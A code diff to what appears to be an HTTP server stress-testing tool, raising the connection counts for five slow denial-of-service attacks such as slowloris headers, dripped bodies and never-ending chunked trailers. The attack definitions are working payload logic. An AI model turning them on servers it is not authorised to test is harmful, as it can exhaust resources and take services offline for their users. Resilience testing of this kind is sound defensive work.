@@ -83,7 +83,7 @@ ALL = (
     Attack(
         "slow_header",
         "Headers that come byte by byte (slowloris).",
-        4_000,
+        10_000,
         lambda target: target.head() + b"X-Slow: ",
         drip=lambda _: b"a",
         pause=2,
@@ -116,7 +116,7 @@ ALL = (
     Attack(
         "small_bodies",
         "Bodies of 1 MiB of which 8 KiB are sent, and then a byte at a time.",
-        5_000,
+        8_000,
         lambda target: body(target, "POST", target.body_path, 8192),
         drip=lambda _: b"a",
         pause=3,
@@ -125,13 +125,13 @@ ALL = (
     Attack(
         "length_without_body",
         "A Content-Length of 1 MiB, and no body.",
-        5_000,
+        10_000,
         lambda target: body(target, "POST" if target.body_path else "GET", target.body_path, 1),
     ),
     Attack(
         "expect_without_body",
         "Expect: 100-continue, and no body after the 100.",
-        5_000,
+        10_000,
         lambda target: (
             target.head("POST" if target.body_path else "GET", target.body_path)
             + b"Content-Type: application/json\r\nExpect: 100-continue\r\n"
@@ -157,7 +157,7 @@ ALL = (
     Attack(
         "trailers",
         "A chunked body with trailers that never end.",
-        2_000,
+        8_000,
         lambda target: chunked(target, b'1\r\n"\r\n0\r\n'),
         drip=lambda _: b"X-Trailer: " + b"t" * 2048 + b"\r\n",
         pause=0.5,
